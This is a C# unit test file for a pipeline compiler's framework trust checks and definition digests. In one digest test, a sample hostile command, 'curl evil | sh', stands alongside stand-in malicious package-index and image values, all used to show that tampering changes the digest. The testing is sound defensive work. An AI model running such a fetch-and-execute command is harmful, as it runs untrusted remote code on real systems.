using System.Collections.Immutable;
using System.Text.Json.Nodes;
using Kfp.Compiler.IO;
using Kfp.Compiler.Tests.Caching;

namespace Kfp.Compiler.Tests.Frameworks;

public sealed class FrameworkTrustTests : IDisposable
{
    private static readonly FrameworkDefinition Base = new("kfp-sdk", ["python3", "-m", "compile", "{source}", "{output}"])
    {
        Env = ImmutableSortedDictionary<string, string>.Empty.Add("PIP_INDEX_URL", "https://pypi.example"),
        DefaultParameters = ImmutableSortedDictionary<string, JsonNode?>.Empty.Add("beamArgs", new JsonArray("--runner=Direct")),
    };

    private readonly TempFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Fact]
    public void Compute_KnownDefinition_GivesRecordedDigest() =>
        Assert.Equal("sha256:3136dfde02a3a3c2e666f99d8c396701f098bd42ce876079ed884e0358ee40a2", FrameworkDigest.Compute(Base));

    [Fact]
    public void Compute_NameAndTimeout_DoNotChangeIt() =>
        Assert.Equal(FrameworkDigest.Compute(Base with { }), FrameworkDigest.Compute(new FrameworkDefinition("other-name", Base.Command)
        {
            Env = Base.Env,
            DefaultParameters = Base.DefaultParameters,
            TimeoutSeconds = 10,
        }));

    public static TheoryData<string> Changes() => ["command", "env", "image", "executor", "network", "defaultParameters", "workingDirectory"];

    [Theory]
    [MemberData(nameof(Changes))]
    public void Compute_WhatRunsChanges_DigestChanges(string part)
    {
        var changed = part switch
        {
            "command" => Base with { Command = ["sh", "-c", "curl evil | sh"] },
            "env" => Base with { Env = Base.Env.SetItem("PIP_INDEX_URL", "https://evil.example") },
            "image" => Base with { Image = "evil/compiler" },
            "executor" => Base with { Executor = FrameworkExecutors.Local },
            "network" => Base with { Network = "host" },
            "defaultParameters" => Base with { DefaultParameters = Base.DefaultParameters.SetItem("beamArgs", new JsonArray("--runner=Dataflow")) },
            _ => Base with { WorkingDirectory = "/tmp" },
        };

        Assert.NotEqual(FrameworkDigest.Compute(Base), FrameworkDigest.Compute(changed));
    }

    [Theory]
    [InlineData("*", true)]
    [InlineData("kfp-sdk", true)]
    [InlineData(" kfp-sdk ", true)]
    [InlineData("other", false)]
    [InlineData("", false)]
    [InlineData("DIGEST", true)]
    [InlineData("sha256:0000", false)]
    public void IsTrusted_Entry_MatchesNameDigestOrStar(string entry, bool trusted)
    {
        var digest = FrameworkDigest.Compute(Base);

        Assert.Equal(trusted, FrameworkTrust.Parse([entry.Replace("DIGEST", digest, StringComparison.Ordinal)]).IsTrusted("kfp-sdk", digest));
    }

    [Fact]
    public void IsTrusted_NoneButApprovedDigest_Trusts() =>
        Assert.True(FrameworkTrust.None.IsTrusted("kfp-sdk", "sha256:ab", approvedDigest: "sha256:ab"));

    [Fact]
    public async Task CompileAsync_LocalNotTrusted_RunsNothingAndSaysHowToApprove()
    {
        var runner = new CountingRunner(TestFiles.Read("ir/samples/hello_world.yaml"));
        _folder.Write("pipeline.py", "# pipeline\n");
        var compiler = new PipelineCompiler(new PhysicalFileSystem(), runner, TimeProvider.System, new PipelineCompilerOptions { Trust = FrameworkTrust.None }, new FakeHost());
        var request = new CompileRequest("pipeline.py") { BaseDirectory = _folder.Path, ExternalFramework = Base };

        var error = await Assert.ThrowsAsync<UntrustedFrameworkException>(() => compiler.CompileAsync(request, CancellationToken.None));

        Assert.Equal(0, runner.Calls);
        Assert.Equal("kfp-sdk", error.Framework);
        Assert.Contains(FrameworkDigest.Compute(Base), error.Message, StringComparison.Ordinal);
        Assert.Contains("trustedFrameworks", error.Message, StringComparison.Ordinal);
        Assert.Contains("python3, -m, compile", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task CompileAsync_TrustedByName_Runs()
    {
        var runner = new CountingRunner(TestFiles.Read("ir/samples/hello_world.yaml"));
        _folder.Write("pipeline.py", "# pipeline\n");
        var compiler = new PipelineCompiler(new PhysicalFileSystem(), runner, TimeProvider.System,
            new PipelineCompilerOptions { Trust = FrameworkTrust.Parse(["kfp-sdk"]) }, new FakeHost());

        await compiler.CompileAsync(new CompileRequest("pipeline.py")
        {
            BaseDirectory = _folder.Path,
            ExternalFramework = Base with { Command = ["compile", "{source}", "{output}"] },
        }, CancellationToken.None);

        Assert.Equal(1, runner.Calls);
    }
}
